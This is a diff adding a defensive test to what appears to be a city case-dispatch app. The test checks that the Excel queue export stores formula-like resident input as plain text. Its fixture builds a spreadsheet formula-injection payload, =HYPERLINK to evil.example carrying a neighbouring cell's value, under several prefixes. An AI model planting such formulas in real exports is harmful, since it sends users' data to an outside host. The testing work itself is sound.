@@ -259,6 +259,30 @@ def test_dispatcher_queue_filters_and_exports_to_excel(client, api) -> None:  # 
     assert lamp not in {row[0] for row in ws.iter_rows(values_only=True)}
 
 
+def test_the_queue_export_writes_text_that_looks_like_a_formula_as_text(client, api) -> None:  # noqa: ANN001
+    """A resident's description or address typed as =HYPERLINK(…) (or with +, -, @, a tab, a carriage return,
+    full-width ＝＋－＠) is text in the workbook staff open, never a live formula."""
+    typed = {}
+    for prefix in ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠"):
+        evil = f'{prefix}HYPERLINK("http://evil.example/?x="&B2,"详情")'
+        number = report(api, "resident", GRID_A, category="1502", description=evil + " 路灯不亮",
+                        address=f"{prefix}1+2 红星路")["number"]
+        typed[number] = evil
+    page_login(client, PERSONAS["community"].username)
+    r = client.get("/cases/export.xlsx?tab=all")
+    assert r.status_code == 200
+    ws = load_workbook(BytesIO(r.content)).active
+    formulas = [(c.coordinate, c.value) for row in ws.iter_rows() for c in row if c.data_type == "f"]
+    assert formulas == []
+    header = [c.value for c in ws[1]]
+    rows = {row[0].value: row for row in ws.iter_rows(min_row=2)}
+    for number in typed:
+        description = rows[number][header.index("描述")]
+        assert description.data_type == "s" and description.value.endswith("路灯不亮")
+        if description.value.startswith(("=", "+", "-", "@", "＝", "＋", "－", "＠")):
+            assert description.quotePrefix  # still text when someone edits the cell in Excel
+
+
 def test_dispatcher_accepts_registers_and_dispatches_on_the_case_page(client, api) -> None:  # noqa: ANN001
     number = report(api, "resident", GRID_A, category="1502")["number"]
     page_login(client, PERSONAS["community"].username)
